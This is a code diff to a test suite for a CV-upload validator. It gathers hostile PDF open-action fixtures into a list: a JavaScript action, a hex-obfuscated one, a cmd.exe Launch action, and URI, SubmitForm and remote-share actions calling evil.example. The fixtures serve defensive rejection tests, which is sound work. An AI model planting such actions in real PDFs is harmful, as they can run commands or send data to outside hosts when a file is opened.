@@ -351,6 +351,26 @@ def one_bit_png(size: int) -> bytes:
     return make_image("PNG", size=(size, size), mode="1")
 
 
+#: Open actions a PDF may run when it is opened: (id, the action or a reference to it, the objects it refers to).
+#: Issue 11, item 10: also those that reach out (a web address, a form sent, another file).
+OPEN_ACTIONS = [
+    ("pdf-openaction-javascript-raw", b"4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+    ("pdf-openaction-hex-escaped-names", b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"),
+    ("pdf-launch-action", b"<< /S /Launch /F (cmd.exe) >>"),
+    ("pdf-openaction-uri", b"<< /S /URI /URI (https://evil.example/t) >>"),
+    (
+        "pdf-openaction-submitform-indirect",
+        b"4 0 R",
+        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
+    ),
+    (
+        "pdf-openaction-goto-then-uri",
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>",
+    ),
+    ("pdf-openaction-remote-goto", b"<< /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>"),
+]
+
+
 HOSTILE: list = [
     # Executables and scripts under a document name.
     pytest.param("cv.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 1024, "unsupported_type", id="elf-named-cv.pdf"),
@@ -379,51 +399,12 @@ HOSTILE: list = [
     # PDFs that run code, carry files or hide another format.
     pytest.param("cv.pdf", pdf_with_javascript, "pdf_active_content", id="pdf-javascript-name-tree"),
     pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
-        "pdf_active_content",
-        id="pdf-openaction-javascript-raw",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"),
-        "pdf_active_content",
-        id="pdf-openaction-hex-escaped-names",
-    ),
-    pytest.param(
         "cv.pdf", pdf_with_script_in_object_stream, "pdf_active_content", id="pdf-javascript-in-object-stream"
     ),
-    pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"<< /S /Launch /F (cmd.exe) >>"),
-        "pdf_active_content",
-        id="pdf-launch-action",
-    ),
-    # Issue 11, item 10: an open action that reaches out when the file is opened.
-    pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"<< /S /URI /URI (https://evil.example/t) >>"),
-        "pdf_active_content",
-        id="pdf-openaction-uri",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"4 0 R", b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"),
-        "pdf_active_content",
-        id="pdf-openaction-submitform-indirect",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>"),
-        "pdf_active_content",
-        id="pdf-openaction-goto-then-uri",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: pdf_opening(b"<< /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>"),
-        "pdf_active_content",
-        id="pdf-openaction-remote-goto",
-    ),
+    *[
+        pytest.param("cv.pdf", lambda objects=objects: pdf_opening(*objects), "pdf_active_content", id=name)
+        for name, *objects in OPEN_ACTIONS
+    ],
     pytest.param(
         "cv.pdf",
         lambda: raw_pdf(
